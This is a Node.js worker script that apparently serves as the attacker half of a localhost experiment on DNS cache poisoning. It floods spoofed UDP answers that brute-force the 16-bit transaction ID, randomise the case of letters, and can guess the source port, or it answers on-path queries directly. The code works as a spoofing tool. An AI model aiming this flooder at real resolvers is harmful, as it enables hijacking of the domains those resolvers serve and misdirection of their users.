// A silent name server, and somebody who forges its answers: from its own address and port, without having read a question.
import { createSocket } from 'node:dgram';
import { parentPort, workerData } from 'node:worker_threads';

/**
 * mode: `off-path` guesses the port as well; `known-port` has been told it; `on-path` has read the question, which shows that
 * its answers are right in all else.
 */
const { mode, perSecond, question, answer, ports } = workerData;
const HEADER_OCTETS = 12;
const MAX_AT_ONCE = 2_000;

// The address is numeric already; without this each packet would go through the resolver of the system.
const lookup = (host, _options, found) => found(null, host, 4);
const socket = createSocket({ type: 'udp4', lookup });
const packet = Buffer.concat([Buffer.alloc(HEADER_OCTETS), Buffer.from(question), Buffer.from(answer)]);
for (const [index, field] of [0x84_00, 1, 1, 0, 0].entries()) packet.writeUInt16BE(field, 2 + 2 * index);
const guesses = mode === 'on-path' ? [] : everyGuess();

let victim;
let sent = 0;
let startedAt;
let isStopped = false;

socket.on('message', (asked, from) => {
  victim = from.port;
  if (mode !== 'on-path') return;
  asked.copy(packet, 0, 0, 2);
  asked.copy(packet, HEADER_OCTETS, HEADER_OCTETS, HEADER_OCTETS + question.length);
  socket.send(Buffer.from(packet), from.port, from.address);
});
socket.on('error', () => {});
parentPort.on('message', () => {
  isStopped = true;
  parentPort.postMessage({ sent, seconds: (performance.now() - startedAt) / 1_000 });
  socket.close();
  parentPort.close();
});
socket.bind(0, '127.0.0.1', () => {
  parentPort.postMessage({ port: socket.address().port });
  startedAt = performance.now();
  if (mode !== 'on-path') flood();
});

function flood() {
  if (isStopped) return;
  const due = ((performance.now() - startedAt) / 1_000) * perSecond - sent;
  for (let left = Math.min(due, MAX_AT_ONCE); left > 0; left -= 1) {
    const port = mode === 'off-path' ? anyPort() : victim;
    if (port === undefined) break;
    socket.send(guesses[sent % guesses.length], port, '127.0.0.1');
    sent += 1;
  }
  // Gives way to what has come in, the question and the word to stop among it.
  setImmediate(flood);
}

function anyPort() {
  return ports[0] + Math.floor(Math.random() * (ports[1] - ports[0] + 1));
}

/** One packet for every id, each letter large or small by chance; made beforehand, since making them would cost most of the time. */
function everyGuess() {
  return Array.from({ length: 0x1_00_00 }, (_, guessed) => {
    const octets = Buffer.from(packet);
    octets.writeUInt16BE(guessed, 0);
    for (let at = HEADER_OCTETS; at < HEADER_OCTETS + question.length - 4; at += 1)
      if (octets[at] >= 0x61 && octets[at] <= 0x7a && Math.random() < 0.5) octets[at] -= 0x20;
    return octets;
  });
}
